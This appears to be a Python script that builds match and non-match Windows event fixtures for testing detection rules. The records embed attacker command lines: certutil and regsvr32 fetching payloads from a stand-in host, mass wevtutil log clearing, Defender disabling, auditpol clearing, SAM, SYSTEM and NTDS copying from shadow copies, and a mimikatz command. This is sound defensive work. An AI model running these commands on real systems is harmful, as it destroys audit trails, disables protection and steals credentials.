      sysmon1(at(52, 0), WEVTUTIL, 'wevtutil  cl Security', CMD, 'cmd.exe /c for /f %x in (\'wevtutil el\') do wevtutil cl "%x"',
              original='wevtutil.exe', user='CORP\\adm_jdoe'))
write(D + 'match/security4688_powershell_clear_eventlog.json',
      sec4688(at(52, 10), PS, 'powershell.exe -c "Clear-EventLog -LogName Security,System,\'Windows PowerShell\'"', CMD))
write(D + 'match/three_wevtutil_clear_log_one_alert.ndjson',
      *[sysmon1(at(52, 20 + i), WEVTUTIL, 'wevtutil.exe clear-log "%s"' % log, CMD, 'cmd.exe', original='wevtutil.exe')
        for i, log in enumerate(['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-PowerShell/Operational',
                                 'Security'])])
write(D + 'nomatch/sysmon1_wevtutil_query_events.json',
      sysmon1(at(52, 30), WEVTUTIL, 'wevtutil qe Security /c:5 /rd:true /f:text', CMD, 'cmd.exe', original='wevtutil.exe'))
write(D + 'nomatch/sysmon1_wevtutil_export_log.json',
      sysmon1(at(52, 40), WEVTUTIL, 'wevtutil epl Security C:\\Backup\\Security_20261118.evtx', CMD, 'cmd.exe',
              original='wevtutil.exe'))
write(D + 'nomatch/security4688_powershell_get_eventlog.json',
      sec4688(at(52, 50), PS, 'powershell.exe -c "Get-EventLog -LogName System -Newest 20 | Format-List"', CMD))

# --- process_creation/defense_evasion_defender_disabled_command
D = 'process_creation/defense_evasion_defender_disabled_command/'
write(D + 'match/sysmon1_set_mppreference_disable_realtime.json',
      sysmon1(at(53, 0), PS, 'powershell.exe -nop -c "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"',
              CMD, 'cmd.exe', original='PowerShell.EXE', description='Windows PowerShell', IntegrityLevel='High'))
write(D + 'match/security4688_add_mppreference_exclusion.json',
      sec4688(at(53, 10), PS, 'powershell -c Add-MpPreference -ExclusionPath C:\\Users\\Public', CMD))
write(D + 'match/sysmon1_cmd_and_powershell_same_command.ndjson',
      sysmon1(at(53, 20), CMD, 'cmd.exe /c powershell Set-MpPreference -DisableBehaviorMonitoring 1', EXPLORER, EXPLORER,
              original='Cmd.Exe'),
      sysmon1(at(53, 20), PS, 'powershell  Set-MpPreference -DisableBehaviorMonitoring 1', CMD,
              'cmd.exe /c powershell Set-MpPreference -DisableBehaviorMonitoring 1', original='PowerShell.EXE',
              description='Windows PowerShell'))
write(D + 'nomatch/sysmon1_set_mppreference_reenable.json',
      sysmon1(at(53, 30), PS, 'powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $false"', CMD, 'cmd.exe',
              original='PowerShell.EXE', description='Windows PowerShell'))
write(D + 'nomatch/sysmon1_set_mppreference_schedule.json',
      sysmon1(at(53, 40), PS, 'powershell.exe -c "Set-MpPreference -SignatureScheduleDay 0 -ScanScheduleTime 02:00:00"',
              CMD, 'cmd.exe', original='PowerShell.EXE', description='Windows PowerShell'))
write(D + 'nomatch/security4688_get_mppreference_exclusions.json',
      sec4688(at(53, 50), PS, 'powershell -c "Get-MpPreference | Select-Object -ExpandProperty ExclusionPath"', CMD))

# --- registry_event/defense_evasion_defender_disabled_registry
D = 'registry_event/defense_evasion_defender_disabled_registry/'
REG = 'C:\\Windows\\System32\\reg.exe'
write(D + 'match/sysmon13_policy_disableantispyware.json',
      sysmon(13, at(54, 0), REG, TargetObject='HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
             Details='DWORD (0x00000001)', User='CORP\\adm_jdoe'))
write(D + 'match/sysmon13_realtime_protection_disablerealtimemonitoring.json',
      sysmon(13, at(54, 10), PS,
             TargetObject='HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring',
             Details='DWORD (0x00000001)', User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon13_disableantispyware_zero.json',
      sysmon(13, at(54, 20), REG, TargetObject='HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
             Details='DWORD (0x00000000)', User='CORP\\adm_jdoe'))
write(D + 'nomatch/sysmon13_defender_signature_setting.json',
      sysmon(13, at(54, 30), 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe',
             TargetObject='HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\ForceUpdateFromMU',
             Details='DWORD (0x00000001)', User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon13_other_product_disablerealtimemonitoring.json',
      sysmon(13, at(54, 40), 'C:\\Program Files\\Vendor AV\\avsvc.exe',
             TargetObject='HKLM\\SOFTWARE\\Vendor AV\\Settings\\DisableRealtimeMonitoring',
             Details='DWORD (0x00000001)', User='NT AUTHORITY\\SYSTEM'))

# --- security/defense_evasion_audit_policy_removed
D = 'security/defense_evasion_audit_policy_removed/'
write(D + 'match/security4719_success_and_failure_removed.json', base('security_4719'))
write(D + 'match/security4719_failure_removed_process_creation.json',
      rec('security_4719', EventTime=at(55, 10), SubcategoryId='%%13312',
          SubcategoryGuid='{0CCE922B-69AE-11D9-BED3-505054503030}', CategoryId='%%8273', AuditPolicyChanges='%%8450'))
write(D + 'nomatch/security4719_success_and_failure_added.json',
      rec('security_4719', EventTime=at(55, 20), AuditPolicyChanges='%%8449, %%8451'))
write(D + 'nomatch/security4719_success_added.json',
      rec('security_4719', EventTime=at(55, 30), SubcategoryId='%%13312',
          SubcategoryGuid='{0CCE922B-69AE-11D9-BED3-505054503030}', CategoryId='%%8273', AuditPolicyChanges='%%8449'))

# --- process_creation/defense_evasion_auditpol_disable
D = 'process_creation/defense_evasion_auditpol_disable/'
AUDITPOL = 'C:\\Windows\\System32\\auditpol.exe'
write(D + 'match/sysmon1_auditpol_clear.json',
      sysmon1(at(56, 0), AUDITPOL, 'auditpol  /clear /y', CMD, 'cmd.exe', original='AUDITPOL.EXE', IntegrityLevel='High'))
write(D + 'match/security4688_auditpol_set_disable_process_creation.json',
      sec4688(at(56, 10), AUDITPOL, 'auditpol /set /subcategory:"Process Creation" /success:disable /failure:disable', CMD))
write(D + 'nomatch/sysmon1_auditpol_get.json',
      sysmon1(at(56, 20), AUDITPOL, 'auditpol /get /category:*', CMD, 'cmd.exe', original='AUDITPOL.EXE'))
write(D + 'nomatch/sysmon1_auditpol_enable_logon.json',
      sysmon1(at(56, 30), AUDITPOL, 'auditpol /set /subcategory:"Logon" /success:enable /failure:enable', CMD, 'cmd.exe',
              original='AUDITPOL.EXE'))

# --- process_creation/defense_evasion_regsvr32_scriptlet
D = 'process_creation/defense_evasion_regsvr32_scriptlet/'
REGSVR32 = 'C:\\Windows\\System32\\regsvr32.exe'
write(D + 'match/sysmon1_squiblydoo_http.json',
      sysmon1(at(57, 0), REGSVR32, 'regsvr32.exe /s /n /u /i:http://198.51.100.23:8080/a.sct scrobj.dll', CMD, 'cmd.exe',
              original='REGSVR32.EXE'))
write(D + 'match/security4688_local_sct.json',
      sec4688(at(57, 10), REGSVR32, 'regsvr32 /u /s /i:C:\\Users\\Public\\Libraries\\x.sct scrobj.dll',
              'C:\\Windows\\System32\\wscript.exe'))
write(D + 'nomatch/sysmon1_register_vendor_dll.json',
      sysmon1(at(57, 20), REGSVR32, 'regsvr32.exe /s "C:\\Program Files\\Vendor\\Plugin\\vendorshell.dll"',
              'C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\system32\\msiexec.exe /V', original='REGSVR32.EXE',
              user='NT AUTHORITY\\SYSTEM', session='0'))
write(D + 'nomatch/sysmon1_regsvr32_install_shell32.json',
      sysmon1(at(57, 30), REGSVR32, 'regsvr32 /s /i shell32.dll', CMD, 'cmd.exe', original='REGSVR32.EXE'))

# --- process_creation/defense_evasion_rundll32_script_or_user_dll
D = 'process_creation/defense_evasion_rundll32_script_or_user_dll/'
write(D + 'match/sysmon1_rundll32_javascript_mshtml.json',
      sysmon1(at(58, 0), RUNDLL32, 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://198.51.100.23/r.sct")',
              CMD, 'cmd.exe', original='RUNDLL32.EXE'))
write(D + 'match/security4688_programdata_dll_ordinal.json',
      sec4688(at(58, 10), RUNDLL32, 'rundll32.exe C:\\ProgramData\\qwertzu.dll,#1', 'C:\\Windows\\System32\\wscript.exe'))
write(D + 'match/sysmon1_appdata_temp_dll_ordinal_quoted.json',
      sysmon1(at(58, 20), RUNDLL32, 'rundll32  "C:\\Users\\jdoe\\AppData\\Local\\Temp\\f0a1.tmp.dll", #3', EXCEL,
              '"' + EXCEL + '" "C:\\Users\\jdoe\\Downloads\\Q3.xlsb"', original='RUNDLL32.EXE'))
write(D + 'nomatch/sysmon1_shell32_ordinal_system32.json',
      sysmon1(at(58, 30), RUNDLL32, 'rundll32.exe C:\\Windows\\system32\\shell32.dll,#61', EXPLORER, EXPLORER,
              original='RUNDLL32.EXE'))
write(D + 'nomatch/sysmon1_appdata_dll_named_export.json',
      sysmon1(at(58, 40), RUNDLL32, 'rundll32.exe "C:\\Users\\jdoe\\AppData\\Local\\Vendor\\Updater\\helper.dll",CheckForUpdates',
              'C:\\Users\\jdoe\\AppData\\Local\\Vendor\\Updater\\updater.exe', 'updater.exe /silent',
              original='RUNDLL32.EXE'))

# --- process_creation/defense_evasion_certutil_download_decode
D = 'process_creation/defense_evasion_certutil_download_decode/'
CERTUTIL = 'C:\\Windows\\System32\\certutil.exe'
write(D + 'match/sysmon1_urlcache_split_f.json',
      sysmon1(at(59, 0), CERTUTIL, 'certutil.exe -urlcache -split -f http://198.51.100.23/x.exe C:\\Users\\Public\\x.exe',
              CMD, 'cmd.exe', original='CertUtil.exe'))
write(D + 'match/security4688_decode.json',
      sec4688(at(59, 10), CERTUTIL, 'certutil -decode C:\\Users\\Public\\b64.txt C:\\Users\\Public\\svc.exe', CMD))
write(D + 'match/sysmon1_renamed_verifyctl.json',
      sysmon1(at(59, 20), 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\cu.exe', 'cu.exe -verifyctl -f -split https://198.51.100.23/p.bin',
              CMD, 'cmd.exe', original='CertUtil.exe'))
write(D + 'nomatch/sysmon1_certutil_hashfile.json',
      sysmon1(at(59, 30), CERTUTIL, 'certutil -hashfile C:\\Users\\jdoe\\Downloads\\setup.exe SHA256', CMD, 'cmd.exe',
              original='CertUtil.exe'))
write(D + 'nomatch/sysmon1_certutil_urlcache_delete.json',
      sysmon1(at(59, 40), CERTUTIL, 'certutil -urlcache * delete', CMD, 'cmd.exe', original='CertUtil.exe'))
write(D + 'nomatch/security4688_cmd_wrapping_certutil.json',
      sec4688(at(59, 50), CMD, 'cmd.exe /c certutil -urlcache -split -f http://198.51.100.23/x.exe %TEMP%\\x.exe',
              EXPLORER))

# --- create_remote_thread/defense_evasion_remote_thread_unusual_source
D = 'create_remote_thread/defense_evasion_remote_thread_unusual_source/'


def s8(t, source, target, module='-', function='-', **extra):
    return rec('sysmon_8', EventTime=t, SourceImage=source, TargetImage=target, StartModule=module,
               StartFunction=function, SourceProcessGuid=guid(source), TargetProcessGuid=guid(target), RuleName='-',
               **extra)


write(D + 'match/sysmon8_powershell_into_explorer.json', base('sysmon_8'))
write(D + 'match/sysmon8_temp_exe_loadlibrary_into_notepad.json',
      s8('2026-11-18 11:00:10', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\inj.exe', 'C:\\Windows\\System32\\notepad.exe',
         module='C:\\Windows\\System32\\KERNEL32.DLL', function='LoadLibraryA'))
write(D + 'nomatch/sysmon8_csrss_ctrlroutine.json',
      s8('2026-11-18 11:00:20', 'C:\\Windows\\System32\\csrss.exe', 'C:\\Windows\\System32\\cmd.exe',
         module='C:\\Windows\\System32\\KERNELBASE.dll', function='CtrlRoutine', SourceUser='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon8_defender_platform.json',
      s8('2026-11-18 11:00:30', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe',
         'C:\\Windows\\System32\\svchost.exe', module='C:\\Windows\\System32\\ntdll.dll', function='RtlUserThreadStart',
         SourceUser='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon8_wininit.json',
      s8('2026-11-18 11:00:40', 'C:\\Windows\\System32\\wininit.exe', 'C:\\Windows\\System32\\winlogon.exe',
         module='C:\\Windows\\System32\\KERNELBASE.dll', function='CtrlRoutine', SourceUser='NT AUTHORITY\\SYSTEM'))

# --- powershell/defense_evasion_defender_tampering_script_block
D = 'powershell/defense_evasion_defender_tampering_script_block/'


def s4104(t, text, path='', block='3f1c2a7e-5b6d-4e8f-9a0b-1c2d3e4f5a6b'):
    r = rec('powershell_4104', EventTime=t, ScriptBlockText=text, Path=path, ScriptBlockId=block)
    r['Message'] = 'Creating Scriptblock text (1 of 1):\r\n%s\r\n\r\nScriptBlock ID: %s\r\nPath: %s' % (text, block, path)
    return r


write(D + 'match/ps4104_disable_realtime_and_ioav.json',
      s4104('2026-11-18 11:10:00', "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true\r\n"
            "Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2", path='C:\\ProgramData\\setup.ps1'))
write(D + 'match/ps4104_exclusion_path_in_memory.json',
      s4104('2026-11-18 11:10:10', "$p = \"$env:APPDATA\\Microsoft\"\r\nAdd-MpPreference -ExclusionPath $p -Force\r\n"
            "Start-Process \"$p\\svc.exe\"", block='9d8c7b6a-5f4e-4d3c-2b1a-0f9e8d7c6b5a'))
write(D + 'nomatch/ps4104_defender_cdxml_module_definition.json',
      s4104('2026-11-18 11:10:20', "function Set-MpPreference\r\n{\r\n    [CmdletBinding(DefaultParameterSetName='Set0', "
            "SupportsShouldProcess=$true, PositionalBinding=$false)]\r\n    param(\r\n    [Parameter(ParameterSetName='Set0')]\r\n"
            "    [Alias('drtm')]\r\n    [bool]\r\n    ${DisableRealtimeMonitoring},\r\n\r\n    [Parameter(ParameterSetName='Set0')]\r\n"
            "    [string[]]\r\n    ${ExclusionPath})\r\n    Begin {\r\n        $__cmdletization_objectModelWrapper = "
            "$script:ObjectModelWrapper::new()\r\n    }\r\n}",
            path='', block='0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d'))
write(D + 'nomatch/ps4104_reenable_after_maintenance.json',
      s4104('2026-11-18 11:10:30', "Set-MpPreference -DisableRealtimeMonitoring $false\r\nUpdate-MpSignature",
            path='C:\\Scripts\\after-maintenance.ps1', block='1b2c3d4e-5f6a-4b7c-8d9e-0f1a2b3c4d5e'))
write(D + 'nomatch/ps4104_get_mppreference_report.json',
      s4104('2026-11-18 11:10:40', "Get-MpPreference | Select-Object DisableRealtimeMonitoring, ExclusionPath | "
            "Export-Csv C:\\Reports\\defender.csv", path='C:\\Scripts\\inventory.ps1',
            block='2c3d4e5f-6a7b-4c8d-9e0f-1a2b3c4d5e6f'))

# --- process_creation/credential_access_ntds_dit_theft (added later; kept at the end so that the record numbers of
# the fixtures above do not change)
D = 'process_creation/credential_access_ntds_dit_theft/'
write(D + 'match/security4688_xcopy_ntds_folder_from_shadow_copy.json',
      sec4688('2026-11-18 11:12:00', 'C:\\Windows\\System32\\xcopy.exe',
              'xcopy /s /y \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\NTDS\\* C:\\PerfLogs\\n\\', CMD,
              host=DC, user='adm_jdoe'))

# --- process_creation/credential_access_mimikatz_command_line (added later, at the end for stable record numbers)
D = 'process_creation/credential_access_mimikatz_command_line/'
write(D + 'match/sysmon1_kerberos_ask_service_ticket.json',
      sysmon1('2026-11-18 11:13:00', 'C:\\Users\\Public\\kk.exe', 'kk.exe "kerberos::ask /target:MSSQLSvc/sql01.corp.example.org:1433" exit',
              PS, 'powershell.exe', original='mimikatz.exe', description='mimikatz for Windows'))

# --- process_creation/credential_access_shadow_copy_hive_copy (added later, at the end for stable record numbers)
D = 'process_creation/credential_access_shadow_copy_hive_copy/'
SHADOW = '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\'
write(D + 'match/sysmon1_cmd_copy_sam_from_shadow.json',
      sysmon1('2026-11-18 11:14:00', CMD, 'cmd.exe /c copy ' + SHADOW + 'SAM C:\\Users\\Public\\s.hiv', PS,
              'powershell.exe', original='Cmd.Exe', IntegrityLevel='High'))
write(D + 'match/security4688_esentutl_vss_system.json',
      sec4688('2026-11-18 11:14:10', 'C:\\Windows\\System32\\esentutl.exe',
              'esentutl.exe /y /vss C:\\Windows\\System32\\config\\SYSTEM /d C:\\Users\\Public\\y.hiv', CMD))
write(D + 'nomatch/sysmon1_copy_systemprofile_file_from_shadow.json',
      sysmon1('2026-11-18 11:14:20', CMD, 'cmd.exe /c copy "' + SHADOW + 'systemprofile\\AppData\\Local\\app.ini" C:\\Restore\\',
              EXPLORER, EXPLORER, original='Cmd.Exe', user='CORP\\adm_jdoe'))
write(D + 'nomatch/sysmon1_esentutl_copy_sam_without_vss.json',
      sysmon1('2026-11-18 11:14:30', 'C:\\Windows\\System32\\esentutl.exe',
              'esentutl.exe /y C:\\Backup\\config\\SAM /d C:\\Restore\\SAM', CMD, 'cmd.exe', original='esentutl.exe',
              user='CORP\\adm_jdoe'))
write(D + 'nomatch/sysmon1_vssadmin_list_shadows.json',
      sysmon1('2026-11-18 11:14:40', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows /for=C:', CMD,
              'cmd.exe', original='VSSADMIN.EXE', user='CORP\\adm_jdoe'))

# --- security/lateral_movement_psexec_pipe_share_access (added later, at the end for stable record numbers)
D = 'security/lateral_movement_psexec_pipe_share_access/'


def s5145(t, share, target, mask='0x3', local='', ip='192.0.2.51'):
    return rec('security_5145', EventTime=t, ShareName=share, ShareLocalPath=local, RelativeTargetName=target,
               AccessMask=mask, IpAddress=ip, SubjectUserName='adm_jdoe',
               SubjectUserSid='S-1-5-21-3623811015-3361044348-30300820-1190',
               AccessList='%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t',
               AccessReason='-')


write(D + 'match/security5145_psexec_session_four_pipes.ndjson',
      s5145('2026-11-18 11:15:00', '\\\\*\\IPC$', 'PSEXESVC'),
      s5145('2026-11-18 11:15:01', '\\\\*\\IPC$', 'PSEXESVC-OPS-JUMP01-4412-stdin'),
      s5145('2026-11-18 11:15:01', '\\\\*\\IPC$', 'PSEXESVC-OPS-JUMP01-4412-stdout'),
      s5145('2026-11-18 11:15:01', '\\\\*\\IPC$', 'PSEXESVC-OPS-JUMP01-4412-stderr'))
write(D + 'match/security5145_impacket_remcom.json',
      s5145('2026-11-18 11:15:10', '\\\\*\\IPC$', 'RemCom_communicaton', ip='198.51.100.77'))
write(D + 'nomatch/security5145_srvsvc_share_enumeration.json',
      s5145('2026-11-18 11:15:20', '\\\\*\\IPC$', 'srvsvc'))
write(D + 'nomatch/security5145_admin_share_psexesvc_exe_read.json',
      s5145('2026-11-18 11:15:30', '\\\\*\\ADMIN$', 'PSEXESVC.exe', mask='0x1', local='\\??\\C:\\Windows'))
write(D + 'nomatch/security5145_spoolss_pipe.json',
      s5145('2026-11-18 11:15:40', '\\\\*\\IPC$', 'spoolss'))
